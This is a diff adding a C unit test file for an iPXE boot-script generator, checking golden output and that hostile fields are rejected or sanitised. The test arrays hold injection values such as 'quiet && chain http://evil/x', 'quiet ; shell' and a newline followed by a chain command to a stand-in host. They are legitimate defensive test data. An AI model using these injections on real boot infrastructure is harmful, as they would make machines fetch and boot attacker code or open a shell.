@@ -1,0 +1,325 @@
+/* test_ipxe.c - golden iPXE scripts, and hostile fields that must not reach a script. */
+#include <errno.h>
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdlib.h>
+#include <string.h>
+#include <cmocka.h>
+
+#include "ipxe.h"
+
+#define SENTINEL "untouched"
+
+static const char golden_boot[] =
+	"#!ipxe\n"
+	"chain --replace --autofree "
+	"http://10.0.2.2:8080/ipxe?mac=${net0/mac:hexhyp}&uuid=${uuid}\n";
+
+static const char golden_machine[] =
+	"#!ipxe\n"
+	"echo tinyboot: booting lab1\n"
+	"kernel http://10.0.2.2:8080/artifacts/0123abcd/bzImage initrd=initrd "
+	"console=ttyS0 quiet loglevel=3 tinyboot.payloads=hello.txt,gen/1048576\n"
+	"initrd --name initrd http://10.0.2.2:8080/artifacts/0123abcd/initramfs.cpio.gz\n"
+	"boot\n";
+
+static const char golden_machine_nocmdline[] =
+	"#!ipxe\n"
+	"echo tinyboot: booting mac-525400abcdef\n"
+	"kernel http://boot.example.net:80/artifacts/ff/bzImage initrd=initrd\n"
+	"initrd --name initrd http://boot.example.net:80/artifacts/ff/initrd_x-1.img\n"
+	"boot\n";
+
+static const struct ipxe_boot good_boot = {
+	.server_url = "http://10.0.2.2:8080",
+	.kernel_url = "/artifacts/0123abcd/bzImage",
+	.initrd_url = "/artifacts/0123abcd/initramfs.cpio.gz",
+	.cmdline = "console=ttyS0 quiet loglevel=3 tinyboot.payloads=hello.txt,gen/1048576",
+	.machine = "lab1",
+};
+
+static void test_boot_script(void **state)
+{
+	char buf[512];
+
+	(void)state;
+	assert_int_equal(ipxe_boot_script("http://10.0.2.2:8080", buf, sizeof(buf)), 0);
+	assert_string_equal(buf, golden_boot);
+	assert_int_equal(ipxe_boot_script("https://boot.example.net", buf, sizeof(buf)), 0);
+	assert_string_equal(buf, "#!ipxe\n"
+			    "chain --replace --autofree "
+			    "https://boot.example.net/ipxe?mac=${net0/mac:hexhyp}&uuid=${uuid}\n");
+}
+
+static void test_machine_script(void **state)
+{
+	struct ipxe_boot b = good_boot;
+	char buf[1024];
+
+	(void)state;
+	assert_int_equal(ipxe_machine_script(&b, buf, sizeof(buf)), 0);
+	assert_string_equal(buf, golden_machine);
+
+	b = (struct ipxe_boot){
+		.server_url = "http://boot.example.net:80",
+		.kernel_url = "/artifacts/ff/bzImage",
+		.initrd_url = "/artifacts/ff/initrd_x-1.img",
+		.cmdline = NULL,
+		.machine = "mac-525400abcdef",
+	};
+	assert_int_equal(ipxe_machine_script(&b, buf, sizeof(buf)), 0);
+	assert_string_equal(buf, golden_machine_nocmdline);
+	b.cmdline = "";
+	assert_int_equal(ipxe_machine_script(&b, buf, sizeof(buf)), 0);
+	assert_string_equal(buf, golden_machine_nocmdline);
+}
+
+/* Exactly the script's size plus its NUL fits; one byte less is -ENOSPC and buf is untouched. */
+static void test_nospace(void **state)
+{
+	char buf[1024];
+	size_t need;
+
+	(void)state;
+	need = sizeof(golden_machine);
+	assert_int_equal(ipxe_machine_script(&good_boot, buf, need), 0);
+	assert_string_equal(buf, golden_machine);
+	strcpy(buf, SENTINEL);
+	assert_int_equal(ipxe_machine_script(&good_boot, buf, need - 1), -ENOSPC);
+	assert_string_equal(buf, SENTINEL);
+
+	need = sizeof(golden_boot);
+	assert_int_equal(ipxe_boot_script("http://10.0.2.2:8080", buf, need), 0);
+	strcpy(buf, SENTINEL);
+	assert_int_equal(ipxe_boot_script("http://10.0.2.2:8080", buf, need - 1), -ENOSPC);
+	assert_string_equal(buf, SENTINEL);
+
+	strcpy(buf, SENTINEL);
+	assert_int_equal(ipxe_exit_script("no", buf, 10), -ENOSPC);
+	assert_string_equal(buf, SENTINEL);
+	assert_int_equal(ipxe_exit_script("no", NULL, 0), -ENOSPC);
+	assert_int_equal(ipxe_boot_script("http://h", NULL, 0), -ENOSPC);
+}
+
+/* ---- hostile fields: -EINVAL and nothing written ---- */
+
+static char *big_string(char c, size_t n)
+{
+	char *s = malloc(n + 1);
+
+	assert_non_null(s);
+	memset(s, c, n);
+	s[n] = '\0';
+	return s;
+}
+
+static void expect_rejected(const struct ipxe_boot *b, const char *what)
+{
+	char buf[16384];
+
+	strcpy(buf, SENTINEL);
+	if (ipxe_machine_script(b, buf, sizeof(buf)) != -EINVAL)
+		fail_msg("accepted %s", what);
+	assert_string_equal(buf, SENTINEL);
+}
+
+static const char *const bad_cmdlines[] = {
+	"quiet\nboot",
+	"quiet\rx",
+	"quiet && chain http://evil/x",
+	"quiet || shell",
+	"quiet ; shell",
+	"a&&b",
+	"x=${net0/ip}",
+	"${x}",
+	"$x",
+	"quiet # comment",
+	"#",
+	"a\\",
+	"a\\\nb",
+	"a\"b",
+	"a'b",
+	"a\tb",
+	"a{b}",
+	"a|b",
+	"a<b",
+	"caf\xc3\xa9",
+	"a\x7f",
+};
+
+static void test_hostile_cmdline(void **state)
+{
+	struct ipxe_boot b = good_boot;
+	char *big;
+
+	(void)state;
+	for (size_t i = 0; i < sizeof(bad_cmdlines) / sizeof(bad_cmdlines[0]); i++) {
+		b.cmdline = bad_cmdlines[i];
+		expect_rejected(&b, bad_cmdlines[i]);
+	}
+	big = big_string('a', 10 * 1024);
+	b.cmdline = big;
+	expect_rejected(&b, "a 10 KB cmdline");
+	free(big);
+}
+
+static const char *const bad_servers[] = {
+	"",
+	"10.0.2.2:8080",                 /* no scheme */
+	"ftp://10.0.2.2",
+	"http://",
+	"http:///x",
+	"http://10.0.2.2:8080/",         /* paths bring their own '/' */
+	"http://10.0.2.2 :8080",
+	"http://10.0.2.2:8080\n",
+	"http://\"10.0.2.2\"",
+	"http://'h'",
+	"http://h/${x}",
+	"http://h/a&&b",
+	"http://h/#",
+	"http://h?x=1",
+	"http://user@h",
+	"http://[::1]:8080",
+	"-http://h",
+};
+
+static const char *const bad_paths[] = {
+	"",
+	"artifacts/x/bzImage",           /* not absolute */
+	"/artifacts/x/bz Image",
+	"/artifacts/x/\"bzImage\"",
+	"/artifacts/x/'bzImage'",
+	"/artifacts/x/bzImage\n",
+	"/artifacts/x/${x}",
+	"/artifacts/x/a&&b",
+	"/artifacts/x/#",
+	"/artifacts/x/a?b=1",
+	"/artifacts/x:y/bzImage",
+	"/artifacts/x/bzImage%0a",
+	"/artifacts/x/bzImage\\",
+};
+
+static const char *const bad_machines[] = {
+	"",
+	"Lab1",
+	"lab 1",
+	"lab1\nboot",
+	"lab1&&x",
+	"${x}",
+	"#lab1",
+	"lab.1",
+	"abcdefghijklmnopqrstuvwxyz0123456",   /* 33 */
+};
+
+static void test_hostile_urls(void **state)
+{
+	struct ipxe_boot b;
+	char buf[512], *big;
+
+	(void)state;
+	for (size_t i = 0; i < sizeof(bad_servers) / sizeof(bad_servers[0]); i++) {
+		b = good_boot;
+		b.server_url = bad_servers[i];
+		expect_rejected(&b, bad_servers[i]);
+		strcpy(buf, SENTINEL);
+		if (ipxe_boot_script(bad_servers[i], buf, sizeof(buf)) != -EINVAL)
+			fail_msg("boot script accepted '%s'", bad_servers[i]);
+		assert_string_equal(buf, SENTINEL);
+	}
+	for (size_t i = 0; i < sizeof(bad_paths) / sizeof(bad_paths[0]); i++) {
+		b = good_boot;
+		b.kernel_url = bad_paths[i];
+		expect_rejected(&b, bad_paths[i]);
+		b = good_boot;
+		b.initrd_url = bad_paths[i];
+		expect_rejected(&b, bad_paths[i]);
+	}
+	big = big_string('a', IPXE_URL_MAX + 1);
+	big[0] = '/';
+	b = good_boot;
+	b.kernel_url = big;
+	expect_rejected(&b, "an over-long kernel url");
+	memcpy(big, "http://", 7);
+	assert_int_equal(ipxe_boot_script(big, buf, sizeof(buf)), -EINVAL);
+	free(big);
+}
+
+static void test_hostile_other(void **state)
+{
+	struct ipxe_boot b;
+
+	(void)state;
+	for (size_t i = 0; i < sizeof(bad_machines) / sizeof(bad_machines[0]); i++) {
+		b = good_boot;
+		b.machine = bad_machines[i];
+		expect_rejected(&b, bad_machines[i]);
+	}
+	b = good_boot;
+	b.machine = NULL;
+	expect_rejected(&b, "a NULL machine");
+	b = good_boot;
+	b.server_url = NULL;
+	expect_rejected(&b, "a NULL server url");
+	b = good_boot;
+	b.kernel_url = NULL;
+	expect_rejected(&b, "a NULL kernel url");
+	b = good_boot;
+	b.initrd_url = NULL;
+	expect_rejected(&b, "a NULL initrd url");
+	expect_rejected(NULL, "a NULL struct");
+	assert_int_equal(ipxe_boot_script(NULL, NULL, 0), -EINVAL);
+}
+
+/* ---- exit script ---- */
+
+static void test_exit_script(void **state)
+{
+	static const struct {
+		const char *in, *out;
+	} v[] = {
+		{ "no machine 52:54:00:12:34:56 and no default",
+		  "#!ipxe\necho tinyboot: no machine 52:54:00:12:34:56 and no default\nexit 1\n" },
+		{ "line\nchain http://evil/x", "#!ipxe\necho tinyboot: line_chain http:__evil_x\nexit 1\n" },
+		{ "a && b || c ; d", "#!ipxe\necho tinyboot: a __ b __ c _ d\nexit 1\n" },
+		{ "${net0/ip} #x", "#!ipxe\necho tinyboot: __net0_ip_ _x\nexit 1\n" },
+		{ "tab\there\\", "#!ipxe\necho tinyboot: tab_here_\nexit 1\n" },
+		{ "\"quoted\" 'x'", "#!ipxe\necho tinyboot: _quoted_ _x_\nexit 1\n" },
+		{ "caf\xc3\xa9\x1b[2J", "#!ipxe\necho tinyboot: caf____2J\nexit 1\n" },
+		{ "-n --help", "#!ipxe\necho tinyboot: -n --help\nexit 1\n" },
+		{ "", "#!ipxe\necho tinyboot: \nexit 1\n" },
+		{ NULL, "#!ipxe\necho tinyboot: \nexit 1\n" },
+	};
+	char buf[512], want[512], *big;
+
+	(void)state;
+	for (size_t i = 0; i < sizeof(v) / sizeof(v[0]); i++) {
+		assert_int_equal(ipxe_exit_script(v[i].in, buf, sizeof(buf)), 0);
+		assert_string_equal(buf, v[i].out);
+	}
+	/* cut at 200 bytes, after the replacement */
+	big = big_string('\n', 300);
+	assert_int_equal(ipxe_exit_script(big, buf, sizeof(buf)), 0);
+	memset(want, 0, sizeof(want));
+	strcpy(want, "#!ipxe\necho tinyboot: ");
+	memset(want + strlen(want), '_', 200);
+	strcat(want, "\nexit 1\n");
+	assert_string_equal(buf, want);
+	free(big);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_boot_script),
+		cmocka_unit_test(test_machine_script),
+		cmocka_unit_test(test_nospace),
+		cmocka_unit_test(test_hostile_cmdline),
+		cmocka_unit_test(test_hostile_urls),
+		cmocka_unit_test(test_hostile_other),
+		cmocka_unit_test(test_exit_script),
+	};
+
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
